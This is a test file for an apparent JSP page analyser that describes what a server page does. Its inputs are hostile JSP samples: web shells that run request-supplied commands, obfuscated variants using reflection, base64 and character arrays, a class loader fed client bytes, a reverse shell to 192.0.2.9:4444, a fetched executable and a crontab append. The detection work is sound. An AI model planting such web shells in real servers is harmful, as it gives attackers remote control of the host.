import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import { known, render } from '../../value.ts';
import { java } from './java.ts';
import { javaOf } from './source.ts';

beforeAll(async () => {
  useGrammarFiles();
  await java.prepare();
});

/** What a page does, in words. */
function told(code: string): string[] {
  const reading = java.read({
    text: code,
    args: [known('/srv/a.jsp')],
    env: new Map(),
    readFile: () => undefined,
    budget: { steps: 200_000, decodedBytes: 100_000, commands: 500 },
  });
  const commands = reading.commands.map((command) => `$ ${command.argv.map(render).join(' ')}`);
  const effects = reading.effects.map((effect) => {
    switch (effect.kind) {
      case 'run':
        return `run ${effect.from}`;
      case 'connect':
        return `connect ${render(effect.to.host)}:${render(effect.to.port ?? [])}${effect.shell === undefined ? '' : ' shell'}`;
      case 'listen':
        return `listen ${render(effect.at.port ?? [])}${effect.shell === undefined ? '' : ' shell'}`;
      case 'fetch':
        return `fetch ${render(effect.url)}${effect.to === undefined ? '' : ` > ${render(effect.to)}`}`;
      case 'write':
      case 'append':
        return `${effect.kind} ${render(effect.path)}: ${render(effect.content ?? [])}`;
      case 'delete':
      case 'chmod':
        return `${effect.kind} ${render(effect.path)}`;
      default:
        return effect.kind;
    }
  });
  return [...new Set([...commands, ...effects])];
}

describe('what a page does', () => {
  test.each<[string, string, string[]]>([
    [
      'a command out of the request',
      '<%@ page import="java.io.*" %><html><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>ok</html>',
      ['$ sh -c ‹request›', 'run request'],
    ],
    [
      'the same with a list of words',
      '<% String[] c = {"/bin/sh","-c",request.getParameter("c")}; Runtime.getRuntime().exec(c); %>',
      ['$ /bin/sh -c ‹request›', 'run request'],
    ],
    [
      'the same through a builder',
      '<% String q = request.getHeader("X-Q"); new ProcessBuilder("bash", "-c", q).redirectErrorStream(true).start(); %>',
      ['$ bash -c ‹request›', 'run request'],
    ],
    [
      'the same by reflection and a name in pieces',
      '<% Object r = Class.forName("java.lang.Run" + "time").getMethod("getRuntime").invoke(null); Class.forName("java.lang.Runtime").getMethod("ex".concat("ec"), String.class).invoke(r, request.getParameter("q")); %>',
      ['$ sh -c ‹request›', 'run request'],
    ],
    ['a fixed command', '<%= Runtime.getRuntime().exec("id -u") %>', ['$ id -u']],
    [
      'a command in base64',
      '<% String s = new String(java.util.Base64.getDecoder().decode("aWQgLXU=")); Runtime.getRuntime().exec(s); %>',
      ['$ id -u'],
    ],
    [
      'a class made of what the client sent',
      '<%! class U extends ClassLoader { U(ClassLoader c){super(c);} public Class g(byte[] b){ return super.defineClass(b,0,b.length); } } %><% new U(this.getClass().getClassLoader()).g(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())); %>',
      ['run request'],
    ],
    [
      'a shell on a socket',
      '<% Process p = new ProcessBuilder("sh").start(); Socket s = new Socket("192.0.2.9", 4444); InputStream pi = p.getInputStream(), si = s.getInputStream(); OutputStream po = p.getOutputStream(), so = s.getOutputStream(); while (!s.isClosed()) { while (pi.available() > 0) so.write(pi.read()); while (si.available() > 0) po.write(si.read()); } %>',
      ['$ sh', 'connect 192.0.2.9:4444 shell'],
    ],
    [
      'a download that is kept',
      '<% InputStream in = new URL("http://x.invalid/a").openStream(); Files.copy(in, Paths.get("/tmp/a")); new File("/tmp/a").setExecutable(true); %>',
      ['fetch http://x.invalid/a > /tmp/a', 'write /tmp/a: ', 'chmod /tmp/a'],
    ],
    [
      'a line for the crontab of the host',
      '<% FileWriter w = new FileWriter("/mnt/etc/crontab", true); w.write("* * * * * root id\\n"); %>',
      ['append /mnt/etc/crontab: * * * * * root id\n'],
    ],
    [
      'scriptlets in XML',
      '<jsp:root><jsp:scriptlet><![CDATA[ Runtime.getRuntime().exec(request.getParameter("c")); ]]></jsp:scriptlet></jsp:root>',
      ['$ sh -c ‹request›', 'run request'],
    ],
    [
      'text built one character at a time',
      '<% char[] k = {105, 100}; StringBuilder b = new StringBuilder(); for (int i = 0; i < 2; i++) b.append((char) k[i]); Runtime.getRuntime().exec(b.toString()); %>',
      ['$ id'],
    ],
    ['an ordinary page', '<% String n = request.getParameter("name"); out.println("Hello " + n); %><p>${n}</p>', []],
    ['a page without code', '<html>Runtime.getRuntime().exec("id")</html><%-- exec --%>', []],
  ])('%s', (_name, page, expected) => {
    expect(told(page)).toEqual(expected);
  });

  test('lines are those of the page', () => {
    expect(javaOf('<html>\n<%\n  a();\n%>\n<%= b %>').text.split('\n')[2]).toBe('  a();');
  });
});
